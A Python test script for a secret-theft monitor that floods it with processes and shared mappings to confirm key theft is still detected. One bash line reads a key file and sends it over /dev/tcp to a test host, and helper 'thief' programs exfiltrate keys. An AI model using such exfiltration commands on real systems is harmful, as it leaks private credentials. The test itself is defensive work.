#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""A user who starts thousands of processes, or shares thousands of mappings, costs nobody else a rule or a theft that
goes unnoticed.

usage: test-processes.py [--long]     --long: 100,000 processes, or as many as this machine's memory and limits allow;
otherwise 2,500"""

import contextlib
import os
import resource
import subprocess
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../harness"))

import harness
import tap
import varlink
from cases import cases
from crowd import CROWD_PART, RELEASED, Crowd, CrowdedScene, as_user, table
from harness import program, touches
from net import HOST_V4
from tap import require, require_equal

LONG = "--long" in sys.argv
# A sleeping process, with what the kernel has of it.
PROCESS_BYTES = 160 << 10


PID_MAX = "/proc/sys/kernel/pid_max"
LIMIT = resource.getrlimit(resource.RLIMIT_NPROC)


def number_of(path):
    with open(path, encoding="ascii") as file:
        return int(file.read())


def processes_possible():
    """In half of the memory that is available, of a user, and with half of the PIDs of a machine whose PIDs cannot be
    more."""
    with open("/proc/meminfo", encoding="ascii") as info:
        kib = next(int(line.split()[1]) for line in info if line.startswith("MemAvailable:"))
    possible = min(100_000, (kib << 10) // 2 // PROCESS_BYTES)
    if LIMIT[1] != resource.RLIM_INFINITY:
        possible = min(possible, LIMIT[1] - 100)
    return possible if os.access(PID_MAX, os.W_OK) else min(possible, number_of(PID_MAX) // 2)


PROCESSES = processes_possible() if LONG else 2_500
# Small enough that the processes are more than one user may have.
MAX_PROCESSES = 4 * PROCESSES if LONG else 16_000
# crowder.c, MAPPINGS
MAPPINGS_EACH = 250
# bpf/process/shm.bpf.h, MAPPINGS_MAX
PLACES = 256
OTHER_UID, THIRD_UID = 65001, 65002
# One for each crowd: a user is suspected for longer than the case, and the alert of that comes once a minute.
SLEEPERS_UID, MAPPINGS_UID, PLACES_UID = 65011, 65012, 65013

# The program may read it, and nobody else.
HONEST_POLICY = """[Class honest]
Description=a file of test-processes.py
Technique=T1552.004
Path={key}

"""
# Reads a line from the test before it does anything.
HONEST = 'echo ready; read; read -r key < "$1"; exec 3<>/dev/tcp/$2/443; echo "$key" >&3; echo done'


class Waiting:
    """A program in the thief's namespace that does nothing until it gets a line."""

    def __init__(self, net, command, user):
        self.process = net.popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                 text=True, **as_user(user))
        require_equal(self.process.stdout.readline(), "ready\n", f"{command[0]}")

    def go(self, what):
        _, errors = self.process.communicate("go\n", harness.ALERT_TIMEOUT)
        require_equal(self.process.returncode, 0, f"{what}: exit status {errors}")


class Full(CrowdedScene):
    def __init__(self, net, home):
        super().__init__(net, home, parent="/var/tmp")
        self.honest_key = f"{self.directory}/honest-key"
        self.write_policy(HONEST_POLICY.format(key=self.honest_key) +
                          harness.policy_allow("honest", os.path.realpath("/bin/bash"), ["honest"]))
        config = f"{self.directory}/config"
        for path, text in ((config, f"[Correlator]\nMaxProcesses={MAX_PROCESSES}\n"), (self.honest_key, "honest\n")):
            with open(path, "w", encoding="ascii") as out:
                out.write(text)
        self.bw.command.append(f"--config={config}")

    def start_honest(self):
        return Waiting(self.net, ["/bin/bash", "-c", HONEST, "bash", self.honest_key, HOST_V4], OTHER_UID)

    def end_honest(self, honest):
        """It ran before the crowd, and is still trusted."""
        honest.go("the honest program")
        self.bw.expect_no_alert(lambda a: "honest" in a["classes"], self.net, self.home, "the honest program")

    def start_sharing(self, user, gone=0, live=0):
        key, content = self.key(user)
        command = [program("robust-sharer"), key, HOST_V4, str(gone), str(live)]
        return Waiting(self.net, command, user), key, content, user

    def end_sharing(self, thief, key, content, user, named=True):
        """The theft through memory has its alert within a second: with the key or, in the flooder's own share, its
        class."""
        thief.go("the theft through memory")
        self.net.sink.wait_arrived(content)

        def fits(alert):
            about = touches(alert, key) if named else "ssh-private-keys" in alert["classes"]
            return about and alert["suspect"] != named and alert["process"]["uid"] == user and \
                alert["destination"]["address"] == HOST_V4
        self.bw.wait_alert(fits, "the theft through memory", 1 * tap.SLOW)

    def require_share(self, name, user):
        self.bw.wait(lambda: any(s["state"] == "share" and s["uid"] == user and s["table"] == name and
                                 s["comm"] == "robust-crowder" for s in self.bw.states),
                     harness.ALERT_TIMEOUT, f"an alert that names the user who fills {name}")


@contextlib.contextmanager
def pids(n):
    """As many processes may run as the test starts."""
    before = number_of(PID_MAX)
    resource.setrlimit(resource.RLIMIT_NPROC, (LIMIT[1], LIMIT[1]))
    try:
        if before < 2 * n:
            with open(PID_MAX, "w", encoding="ascii") as file:
                file.write(str(1 << 20))
        yield
    finally:
        if number_of(PID_MAX) != before:
            with open(PID_MAX, "w", encoding="ascii") as file:
                file.write(str(before))
        resource.setrlimit(resource.RLIMIT_NPROC, LIMIT)


def many_processes(scene):
    losses = scene.losses()
    before, limit = table(scene.socket, "lineages")
    require_equal(limit, MAX_PROCESSES, "MaxProcesses=")
    honest, thief = scene.start_honest(), scene.start_sharing(THIRD_UID)
    with pids(PROCESSES), Crowd(scene.net, "/dev/null", "sleepers", PROCESSES, **as_user(SLEEPERS_UID)):
        live, _ = table(scene.socket, "lineages")
        require(live <= before + limit // CROWD_PART + RELEASED, f"{live} entries, {before} before")
        scene.require_share("lineages", SLEEPERS_UID)
        scene.end_sharing(*thief)
        scene.end_honest(honest)
        scene.steal("another user's theft", OTHER_UID, 1 * tap.SLOW)
        scene.steal("the theft of the same user", SLEEPERS_UID)
    scene.wait_released("lineages", before)
    require_equal(scene.losses(), losses, "losses")


def many_mappings(scene):
    losses = scene.losses()
    before, limit = table(scene.socket, "mappings")
    n = limit // CROWD_PART // MAPPINGS_EACH + 20
    thief = scene.start_sharing(THIRD_UID)
    with Crowd(scene.net, "/dev/null", "mappings", n, **as_user(MAPPINGS_UID)):
        scene.require_share("mappings", MAPPINGS_UID)
        scene.end_sharing(*thief)
        scene.end_sharing(*scene.start_sharing(OTHER_UID))
        scene.end_sharing(*scene.start_sharing(MAPPINGS_UID), named=False)
    scene.wait_released("mappings", before)
    require_equal(scene.losses(), losses, "losses")


def places(scene):
    """A place is free again when nobody maps its file any more. Without a free one the user is suspected."""
    losses = scene.losses()
    scene.end_sharing(*scene.start_sharing(PLACES_UID, gone=20 * PLACES, live=PLACES - 20))
    require_equal(scene.losses(), losses, "losses")
    scene.end_sharing(*scene.start_sharing(PLACES_UID, live=PLACES), named=False)


def is_ok(scene):
    with varlink.Connection(scene.socket) as client:
        status = client.call("io.barbwire.Barbwire.GetStatus")
    require_equal((status["state"], status["degraded"]), ("ok", []), "the state at the end")


def main():
    with cases() as (t, net, home):
        scene = Full(net, home)
        with scene.bw:
            t.case(f"{PROCESSES} sleeping processes of one user", many_processes, scene)
            t.case("shared mappings fill the share of one user", many_mappings, scene)
            t.case("status is ok", is_ok, scene)
            t.case("places for the mappings of one process", places, scene)
            scene.bw.stop()


if __name__ == "__main__":
    main()
